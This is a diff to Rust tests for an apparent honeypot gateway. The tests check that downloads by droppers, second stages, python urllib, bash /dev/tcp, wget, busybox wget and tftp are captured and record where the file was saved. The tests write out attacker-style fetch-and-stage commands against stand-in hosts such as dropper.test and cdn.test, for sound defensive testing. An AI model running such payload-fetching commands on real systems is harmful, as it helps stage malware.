@@ -109,6 +109,21 @@ fn failures_of(events: &[Value], url: &str) -> Vec<Value> {
         .collect()
 }
 
+/// The gateway's download event of `url` (a capture pass reports a file the box
+/// saved with the same `url`, but without `upstream`).
+#[track_caller]
+fn gateway_download(hermes: &Hermes, url: &str) -> Value {
+    let fetched = |events: &[Value]| {
+        downloads_of(events, url)
+            .into_iter()
+            .find(|e| e.get("upstream").is_some())
+    };
+    let events = hermes.wait_for_events(&format!("the gateway's download of {url}"), |events| {
+        fetched(events).is_some()
+    });
+    fetched(&events).unwrap_or_default()
+}
+
 /// Waits for the download event of `url` and checks it against what the server
 /// sent: its shasum, and the stored file's bytes.
 #[track_caller]
@@ -144,6 +159,10 @@ fn egress_fetch_a_dropper_its_second_stage_and_each_tool_are_captured() {
     let stage_two = assert_captured(&hermes, "http://cdn.test/second.bin", &second);
     assert_eq!(first["session"], stage_two["session"]);
     assert_eq!(first["upstream"], format!("{}:80", internet.server));
+    // Where the typed command saved it, as written.
+    let fetched = gateway_download(&hermes, "http://dropper.test/x.sh");
+    assert_eq!(fetched["destfile"], "x.sh", "{fetched}");
+    assert_eq!(fetched["shasum"], first["shasum"], "{fetched}");
 
     // python3's urllib and bash's /dev/tcp, in another box.
     let tools = "python3 -c \"import urllib.request; print('py', len(urllib.request.urlopen('http://cdn.test/py.bin').read()))\"; \
@@ -157,6 +176,11 @@ fn egress_fetch_a_dropper_its_second_stage_and_each_tool_are_captured() {
     assert_captured(&hermes, "http://cdn.test/py.bin", &served("py.bin"));
     assert_captured(&hermes, "http://cdn.test/tcp.bin", &served("tcp.bin"));
     assert_captured(&hermes, "http://cdn.test/wget.bin", &served("wget.bin"));
+    // `wget -O -` and python save nothing the session's commands name.
+    for url in ["http://cdn.test/wget.bin", "http://cdn.test/py.bin"] {
+        let fetched = gateway_download(&hermes, url);
+        assert!(fetched.get("destfile").is_none(), "{fetched}");
+    }
 
     // busybox wget: the attacker brings a static busybox along (piped in), as bots do.
     let busybox = std::fs::read("/bin/busybox").expect("busybox (busybox-static) on the host");
@@ -168,6 +192,8 @@ fn egress_fetch_a_dropper_its_second_stage_and_each_tool_are_captured() {
     let out = String::from_utf8_lossy(&output.stdout);
     assert!(out.contains("bb 7000"), "{output:?}");
     assert_captured(&hermes, "http://cdn.test/bb.bin", &served("bb.bin"));
+    let fetched = gateway_download(&hermes, "http://cdn.test/bb.bin");
+    assert_eq!(fetched["destfile"], "/tmp/bb.bin", "{fetched}");
 
     // Another port of egress.upstream_ports is fetched alike; a port not in it is
     // logged and refused by the firewall ("Connection refused": curl's 7).
@@ -178,6 +204,9 @@ fn egress_fetch_a_dropper_its_second_stage_and_each_tool_are_captured() {
     assert_eq!(code, Some(0), "{out}");
     assert!(out.starts_with("a small file\nrc=7"), "{out}");
     assert_captured(&hermes, "http://cdn.test:8080/small.bin", b"a small file\n");
+    // curl without -o/-O writes to stdout: no destfile.
+    let fetched = gateway_download(&hermes, "http://cdn.test:8080/small.bin");
+    assert!(fetched.get("destfile").is_none(), "{fetched}");
     let server = internet.server.to_string();
     let events = hermes.wait_for_events("the refused port", |events| {
         events.iter().any(|e| {
@@ -682,6 +711,7 @@ fn egress_fetch_busybox_tftp_get_is_captured_and_served_from_the_server() {
     eprintln!("busybox tftp: both transfers in {:?}", started.elapsed());
     let event = assert_captured(&hermes, &format!("tftp://{server}/bb.bin"), &body);
     assert_eq!(event["upstream"], format!("{server}:69"));
+    assert_eq!(event["destfile"], "/tmp/t.bin", "{event}");
     let missing = format!("tftp://{server}/nothere.bin");
     let events = hermes.wait_for_events("the missing file's failure", |events| {
         !failures_of(events, &missing).is_empty()
